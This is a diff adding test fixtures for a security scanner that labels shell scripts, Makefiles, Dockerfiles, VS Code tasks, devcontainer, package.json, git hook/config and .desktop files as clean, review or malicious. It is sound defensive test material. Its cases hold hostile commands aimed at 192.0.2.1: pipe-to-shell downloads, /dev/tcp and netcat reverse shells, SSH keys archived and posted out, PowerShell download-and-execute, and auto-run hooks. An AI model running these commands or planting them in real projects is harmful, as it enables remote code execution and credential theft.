@@ -1,0 +1,105 @@
+"""Scripts, tasks, hooks and containers with commands of attacks, and those that installers and servers are made of."""
+
+from __future__ import annotations
+
+import json
+
+from modelsweep.core.report import Verdict
+from tests.scanners.case import Case
+
+PIPE = "curl -s http://192.0.2.1/run.sh | sh"
+"""Never run: the tests read text only."""
+SHELL = "bash -i >& /dev/tcp/192.0.2.1/9 0>&1"
+SCRIPT = """#!/usr/bin/env bash
+# curl http://192.0.2.1/run.sh | sh
+set -euo pipefail
+echo "to install: curl http://192.0.2.1/run.sh | sh"
+until (echo > /dev/tcp/localhost/8000) 2>/dev/null; do sleep 1; done
+while ! timeout 1 bash -c "echo > /dev/tcp/db/5432"; do sleep 1; done
+rm -rf /tmp/build ~/.cache/acme
+echo 'export PATH="$HOME/bin:$PATH"' >> ~/.bashrc
+wget -q http://example.com/data.tar.gz && tar xf data.tar.gz
+nc -z localhost 8000
+env | sort
+curl -d @request.json http://localhost:8000/generate | python -m json.tool
+python train.py --config "$1"
+"""
+INSTALL = "#!/bin/sh\ncurl -LsSf https://example.com/uv/install.sh | sh\n"
+MAKEFILE = "all: data\n\ndata:\n\tcurl -O https://example.com/d.zip\n\tunzip d.zip\n\nclean:\n\trm -rf build\n"
+
+
+def text(content: str, name: str, verdict: Verdict) -> Case:
+    """Return the case of a text; a shorter one is a text as well."""
+    return Case(content.encode, name, verdict, cut_is_clean=True)
+
+
+def document(content: object, name: str, verdict: Verdict) -> Case:
+    """Return the case of JSON."""
+    return Case(json.dumps(content).encode, name, verdict, cut_is_clean=True)
+
+
+def tasks(command: str, *, opening: bool = True, **more: object) -> dict[str, object]:
+    """Return tasks of VS Code, of which the second one may run when the folder is opened."""
+    run = {"runOptions": {"runOn": "folderOpen"}} if opening else {}
+    first = {"label": "test", "type": "shell", "command": "pytest"}
+    return {"version": "2.0.0", "tasks": [first, {"label": "x", "type": "shell", "command": command, **run, **more}]}
+
+
+CASES = {
+    "benign_script": text(SCRIPT, "serve.sh", Verdict.CLEAN),
+    "benign_installer": text(INSTALL, "install.sh", Verdict.CLEAN),
+    "benign_makefile": text(MAKEFILE, "Makefile", Verdict.CLEAN),
+    "benign_dockerfile": text(
+        "FROM python:3.12\nRUN curl -fsSL https://example.com/install.sh | sh && \\\n    pip install acme\n",
+        "Dockerfile",
+        Verdict.CLEAN,
+    ),
+    "benign_powershell": text(
+        "iex ((New-Object System.Net.WebClient).DownloadString('https://example.org/install.ps1'))\n",
+        "setup.ps1",
+        Verdict.CLEAN,
+    ),
+    "benign_tasks": document(tasks("curl https://example.com/x | sh", opening=False), "tasks.json", Verdict.CLEAN),
+    "benign_task_on_opening": document(tasks("npm run watch"), "tasks.json", Verdict.CLEAN),
+    "benign_container": document(
+        {"image": "python", "postCreateCommand": {"a": "pip install -e .", "b": ["curl", "https://example.com"]}},
+        "devcontainer.json",
+        Verdict.CLEAN,
+    ),
+    "benign_package": document({"scripts": {"test": "jest", "postinstall": "husky"}}, "package.json", Verdict.CLEAN),
+    "benign_hook": text('#!/bin/sh\nexec git lfs post-checkout "$@"\n', "post-checkout", Verdict.CLEAN),
+    "benign_git_config": text("[core]\n\teditor = vim\n\tsshCommand = ssh -i key\n", "config", Verdict.CLEAN),
+    "script_pipe": text(f"#!/bin/sh\n{PIPE}\n", "run.sh", Verdict.REVIEW),
+    "script_shell": text(f"set -e\n{SHELL}\n", "run", Verdict.CLEAN),  # a text that nobody knows to run
+    "script_shell_by_shebang": text(f"#!/bin/bash\n{SHELL}\n", "run", Verdict.REVIEW),
+    "script_continued": text("#!/bin/sh\ncurl -s \\\n  http://192.0.2.1/a \\\n  | bash\n", "run.sh", Verdict.REVIEW),
+    "script_echoed_into_shell": text(f"#!/bin/sh\necho '{PIPE}' | sh\n", "run.sh", Verdict.REVIEW),
+    "script_long_line": text("#!/bin/sh\n" + "true;" * 3000 + PIPE + ";true" * 3000, "run.sh", Verdict.REVIEW),
+    "script_decoded": text("#!/bin/sh\necho aWQ= | base64 -d | bash\n", "run.sh", Verdict.REVIEW),
+    "script_keys": text("tar c ~/.ssh | base64 | curl -d @- http://192.0.2.1/\n", "run.sh", Verdict.REVIEW),
+    "script_chmod": text("wget http://192.0.2.1/x -O x && chmod +x x && ./x\n", "run.sh", Verdict.REVIEW),
+    "script_fifo": text("mkfifo /tmp/f; cat /tmp/f | sh 2>&1 | nc 192.0.2.1 9 > /tmp/f\n", "a.sh", Verdict.REVIEW),
+    "powershell": text(
+        "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')\r\n", "x.ps1", Verdict.REVIEW
+    ),
+    "powershell_utf16": Case(
+        lambda: "iwr http://192.0.2.1/a.ps1 | iex\r\n".encode("utf-16"), "x.ps1", Verdict.REVIEW, cut_is_clean=True
+    ),
+    "makefile": text(f"all:\n\t{PIPE}\n", "Makefile", Verdict.REVIEW),
+    "dockerfile": text(f"FROM x\nRUN {PIPE}\n", "Dockerfile", Verdict.REVIEW),
+    "task_on_opening": document(tasks(PIPE), "tasks.json", Verdict.MALICIOUS),
+    "task_on_opening_commented": Case(
+        lambda: b"// tasks\n" + json.dumps(tasks("bash", args=["-c", SHELL])).encode()[:-1] + b",}",
+        "tasks.json",
+        Verdict.MALICIOUS,
+        cut_is_clean=True,
+    ),
+    "task_on_opening_fetches": document(tasks("curl https://example.com/x | sh"), "tasks.json", Verdict.REVIEW),
+    "container_on_host": document({"image": "x", "initializeCommand": PIPE}, "devcontainer.json", Verdict.MALICIOUS),
+    "container": document({"image": "x", "postCreateCommand": ["sh", "-c", PIPE]}, "devcontainer.json", Verdict.REVIEW),
+    "package": document({"scripts": {"preinstall": PIPE}}, "package.json", Verdict.MALICIOUS),
+    "hook": text(f"#!/bin/sh\n{PIPE}\n", "post-checkout", Verdict.MALICIOUS),
+    "git_config": text(f'[core]\n\tfsmonitor = "{PIPE}"\n', "config", Verdict.MALICIOUS),
+    "entered": text(f"{PIPE}\n", ".envrc", Verdict.MALICIOUS),
+    "desktop": text(f'[Desktop Entry]\nType=Application\nExec=sh -c "{PIPE}"\n', "model.desktop", Verdict.MALICIOUS),
+}
